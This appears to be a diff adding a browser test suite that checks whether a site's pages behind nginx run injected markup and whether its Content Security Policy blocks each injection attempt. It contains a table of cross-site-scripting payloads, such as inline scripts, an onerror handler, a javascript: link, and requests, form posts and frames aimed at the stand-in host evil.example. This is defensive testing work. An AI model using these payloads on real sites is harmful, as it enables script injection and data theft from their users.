@@ -1,0 +1,153 @@
+import type { Page, Route } from "playwright-core";
+import { describe, expect } from "vitest";
+import { blockKindsIn } from "../../../src/blocks/campaign-context.ts";
+import { behindNginx, originOfWorker } from "../../support/browser/browser.ts";
+import { nginxHere } from "../../support/browser/nginx.ts";
+import { arrangeBuild } from "../../support/browser/nginx-pages.ts";
+import { note } from "../../support/campaigns/note.ts";
+import { site } from "../../support/campaigns/site.ts";
+import { injectPublished } from "../../support/injection/inject-published.ts";
+import { ELEMENT, EVIL_HOST, MARKUP, RAN } from "../../support/injection/payloads.ts";
+import { spoilAnswer } from "../../support/injection/spoil-answer.ts";
+
+const inject = (text: string) => text + MARKUP;
+
+const test = behindNginx((place) => arrangeBuild(place, { change: (page) => injectPublished(page, inject) }));
+
+/** Runs before a page's scripts: what violates its policy is kept where the test finds it. */
+const KEEP_VIOLATIONS = `window.violations = [];
+document.addEventListener("securitypolicyviolation", (event) =>
+  window.violations.push(event.effectiveDirective + " stops " + (event.blockedURI || event.sample)));`;
+
+/** So many buttons of each page are tapped. */
+const TAPS = 2;
+
+/**
+ * Pages that have all kinds of blocks between them, those with many first; a page costs a second of a core. All pages
+ * are played without a browser (campaigns/injection).
+ */
+function pagesToOpen(): string[] {
+  const all = [...site.pages()].map(([key, { published }]) => ({
+    route: published.campaign.route ?? `/${key}`,
+    kinds: [...blockKindsIn(published.campaign)],
+  }));
+  const seen = new Set<string>();
+  return all
+    .sort((one, other) => other.kinds.length - one.kinds.length)
+    .filter(({ kinds }) => {
+      const isNew = kinds.some((kind) => !seen.has(kind));
+      for (const kind of kinds) seen.add(kind);
+      return isNew;
+    })
+    .map(({ route }) => route);
+}
+
+/**
+ * What came of the payloads on an open page. Where the page is just being left, nobody can ask it; a violation there is
+ * still on its console, which fails the test.
+ */
+function remainsOn(page: Page): Promise<unknown> {
+  const remains = page.evaluate(
+    ([element, ran]) => ({
+      ran: ran in window,
+      elements: document.querySelectorAll(
+        `${element}, iframe, object, embed, base, [onerror], [onload], [onclick]`,
+      ).length,
+      violations: (window as unknown as { violations: string[] }).violations,
+    }),
+    [ELEMENT, RAN] as const,
+  );
+  return remains.catch(() => "being left");
+}
+
+const nothing = { ran: false, elements: 0, violations: [] };
+
+describe.skipIf(!nginxHere.isThere)("behind nginx (skipped where it is not installed)", () => {
+  test("no page runs what its texts say, asks for it or violates its policy", { timeout: 600_000 }, async ({
+    open,
+  }) => {
+    const asked = new Set<string>();
+    const page = await open({
+      path: "/performanceSystem?sandbox=off",
+      before: KEEP_VIOLATIONS,
+      // Answers that are refused are asked for again by pages, and told.
+      expectedProblems: [/status of 4\d\d/],
+    });
+    page.on("request", (request) => asked.add(new URL(request.url()).hostname));
+    await page.route("**/prod-api/**", spoilRoute);
+    let shown = 0;
+    const routes = pagesToOpen();
+    for (const route of routes) {
+      const address = `${route}?token=old-user&phoneType=ios&sandbox=off&host=www.mall.example`;
+      await page.goto(address);
+      await page.locator(".page").first().waitFor();
+      await page.waitForLoadState("networkidle");
+      await expect.poll(() => remainsOn(page), { message: route }).toEqual(nothing);
+      if ((await page.locator("body").textContent())?.includes(`<${ELEMENT}>`)) shown++;
+      const buttons = page.locator("button:visible");
+      for (let i = 0; i < Math.min(TAPS, await buttons.count()); i++) {
+        await buttons.nth(i).dispatchEvent("click");
+        await expect.poll(() => remainsOn(page), { message: `${route}, button ${i}` }).toEqual(nothing);
+        if (!page.url().includes(`${route}?`)) await page.goto(address);
+      }
+    }
+    note(`pages opened behind nginx with something injected: ${routes.length}`);
+    expect(shown).toBe(routes.length);
+    expect([...asked]).not.toContain(EVIL_HOST);
+  });
+
+  /** What a text would do if it were markup, as a script that does it, and what of the policy stops it. */
+  const deeds: [name: string, deed: string, stoppedBy: string][] = [
+    ["run a script", 'add("script", { textContent: "window.injectionRan = 1" })', "script-src-elem"],
+    ["load a script", 'add("script", { src: "https://evil.example/a.js" })', "script-src-elem"],
+    ["run at an event", 'put("<img src=/x onerror=window.injectionRan=1>")', "script-src-attr"],
+    [
+      "run by an address",
+      'add("a", { href: "javascript:window.injectionRan=1" }).click()',
+      "script-src-elem",
+    ],
+    // Not at once: what a test evaluates itself may evaluate more.
+    ["run a text", 'requestAnimationFrame(() => new Function("window.injectionRan = 1")())', "script-src"],
+    ["style the page", 'add("style", { textContent: "body { color: red }" })', "style-src-elem"],
+    ["style an element", 'put("<p style=color:red>")', "style-src-attr"],
+    [
+      "load a style",
+      'add("link", { rel: "stylesheet", href: "https://evil.example/a.css" })',
+      "style-src-elem",
+    ],
+    ["load a picture", 'add("img", { src: "https://evil.example/a.png" })', "img-src"],
+    ["say something", 'fetch("https://evil.example/").catch(() => {})', "connect-src"],
+    ["send a form", 'add("form", { action: "https://evil.example/" }).submit()', "form-action"],
+    ["frame a page", 'add("iframe", { src: "https://evil.example/" })', "frame-src"],
+    ["play something", 'add("video", { src: "https://evil.example/a.mp4" })', "media-src"],
+    ["plug something in", 'add("object", { data: "https://evil.example/a" })', "object-src"],
+    ["start a worker", 'try { new Worker("/assets/a.js") } catch {}', "worker-src"],
+    ["move all addresses", 'add("base", { href: "https://evil.example/" })', "base-uri"],
+  ];
+
+  test("the policy stops what a text would do, were it markup", async ({ open }) => {
+    const page = await open({
+      path: "/performanceSystem?sandbox=off",
+      before: KEEP_VIOLATIONS,
+      expectedProblems: [/evil\.example|Content Security Policy|\/x\b/i],
+    });
+    await page.locator("h1").waitFor();
+    await page.evaluate(`
+      window.add = (name, properties) => document.body.appendChild(Object.assign(document.createElement(name), properties));
+      window.put = (html) => { add("div", {}).innerHTML = html; };`);
+    for (const [name, deed, stoppedBy] of deeds) {
+      await page.evaluate(`window.violations.splice(0); ${deed};undefined`);
+      await expect
+        .poll(() => page.evaluate("window.violations.map((text) => text.split(' ')[0])"), { message: name })
+        .toContain(stoppedBy);
+    }
+    expect(await page.evaluate((ran) => ran in window, RAN)).toBe(false);
+  });
+});
+
+/** Of the sandbox itself: Playwright's own client would have to be told whom to trust. */
+async function spoilRoute(route: Route): Promise<void> {
+  const { pathname, search } = new URL(route.request().url());
+  const response = await route.fetch({ url: originOfWorker() + pathname + search });
+  await route.fulfill({ response, body: spoilAnswer(await response.text(), inject) });
+}
